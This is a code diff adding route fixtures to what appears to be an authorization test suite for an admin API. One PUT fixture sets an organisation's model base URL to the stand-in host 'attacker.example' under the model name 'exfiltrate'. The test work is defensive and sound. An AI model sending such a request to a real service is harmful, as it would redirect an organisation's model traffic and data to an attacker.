@@ -186,6 +186,12 @@ export const adminGenerators: Record<string, RouteGenerator> = {
     where: 'body',
     body: () => ({ orgId: 'attacker-org', webhookSecret: 'attacker-secret' }),
   }),
+  'GET /v1/settings/intelligence': onCompany('GET', '/v1/settings/intelligence', { inScope: true, where: 'query' }),
+  'PUT /v1/settings/intelligence': onCompany('PUT', '/v1/settings/intelligence', {
+    inScope: false,
+    where: 'body',
+    body: () => ({ enabled: true, scorecardQuestions: [], modelBaseUrl: 'https://attacker.example/v1', modelName: 'exfiltrate', modelApiKey: 'attacker-key' }),
+  }),
   'GET /v1/audit-events': onCompany('GET', '/v1/audit-events', { inScope: true, where: 'query' }),
   'GET /v1/companies': {
     mutation: false,
